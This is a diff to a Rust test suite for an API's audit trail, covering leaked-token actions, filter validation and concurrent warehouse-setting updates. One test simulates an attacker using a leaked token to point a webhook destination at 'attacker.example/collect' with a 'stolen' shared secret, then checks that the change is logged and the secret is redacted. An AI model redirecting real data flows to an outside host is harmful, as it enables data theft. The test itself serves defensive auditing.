@@ -39,7 +39,7 @@ async fn a_leaked_tokens_actions_and_revocation_are_all_in_the_trail() {
         .patch(
             &format!("/sources/{}", id(&web)),
             &leaked,
-            &json!({ "name": "Web (exfil)", "settings": { "writeKey": "stolen" } }),
+            &json!({ "name": "Web (exfil)", "settings": { "trackPageViews": false } }),
         )
         .await;
     assert_eq!(res.status(), 200);
@@ -48,7 +48,7 @@ async fn a_leaked_tokens_actions_and_revocation_are_all_in_the_trail() {
         .patch(
             &format!("/destinations/{}", id(&hook)),
             &leaked,
-            &json!({ "settings": { "url": "https://attacker.example/collect" }, "enabled": true }),
+            &json!({ "settings": { "url": "https://attacker.example/collect", "sharedSecret": "stolen" }, "enabled": true }),
         )
         .await;
     assert_eq!(res.status(), 200);
@@ -120,12 +120,12 @@ async fn a_leaked_tokens_actions_and_revocation_are_all_in_the_trail() {
         events[3]["details"]["changes"],
         json!({
             "name": { "from": "web", "to": "Web (exfil)" },
-            "settings": { "changedKeys": ["writeKey"] }
+            "settings": { "changedKeys": ["trackPageViews"] }
         })
     );
     assert_eq!(
         events[1]["details"]["changes"]["settings"],
-        json!({ "changedKeys": ["url"] })
+        json!({ "changedKeys": ["sharedSecret", "url"] })
     );
     assert!(!data.to_string().contains("stolen"));
 
@@ -385,7 +385,8 @@ async fn filters_narrow_the_trail_and_bad_filters_are_all_reported() {
         ]
     );
     assert!(errors["startTime"].contains("RFC 3339"));
-    assert!(errors["resourceType"].contains("source, destination, token, user"));
+    assert!(errors["resourceType"]
+        .contains("source, destination, warehouse, tracking_plan, label, token, user"));
     let res = app
         .get(
             &format!(
@@ -578,26 +579,37 @@ async fn concurrent_writers_keep_the_chain_linear() {
     let statuses = futures_util::future::join_all(creations).await;
     assert!(statuses.iter().all(|s| *s == 201), "{statuses:?}");
 
-    // Concurrent PATCHes of different settings of one destination: every
+    // Concurrent PATCHes of different settings of one warehouse: every
     // one lands (no lost update from merging into a stale copy).
-    let source =
-        get_data(&app, "/sources?pagination[count]=1", &member).await["sources"][0].clone();
-    let destination = create_destination(&app, &member, &id(&source)).await;
-    let path = format!("/destinations/{}", id(&destination));
-    let patches = (0..10).map(|i| {
+    let res = app
+        .post(
+            "/warehouses",
+            &member,
+            &json!({ "metadataId": snowflake_kind(), "settings": snowflake_settings() }),
+        )
+        .await;
+    assert_eq!(res.status(), 201);
+    let warehouse = json(res).await["data"]["warehouse"].clone();
+    let path = format!("/warehouses/{}", id(&warehouse));
+    let keys = ["account", "warehouse", "database", "username", "role"];
+    let patches = keys.iter().map(|key| {
         let (app, member, path) = (&app, &member, &path);
         async move {
-            app.patch(path, member, &json!({ "settings": { format!("k{i}"): i } }))
-                .await
-                .status()
-                .as_u16()
+            app.patch(
+                path,
+                member,
+                &json!({ "settings": { *key: format!("new-{key}") } }),
+            )
+            .await
+            .status()
+            .as_u16()
         }
     });
     let statuses = futures_util::future::join_all(patches).await;
     assert!(statuses.iter().all(|s| *s == 200), "{statuses:?}");
-    let settings = get_data(&app, &path, &member).await["destination"]["settings"].clone();
-    for i in 0..10 {
-        assert_eq!(settings[format!("k{i}")], i, "{settings}");
+    let settings = get_data(&app, &path, &member).await["warehouse"]["settings"].clone();
+    for key in keys {
+        assert_eq!(settings[key], format!("new-{key}"), "{settings}");
     }
 
     // Deleting a source while a destination is attached to it: one of the
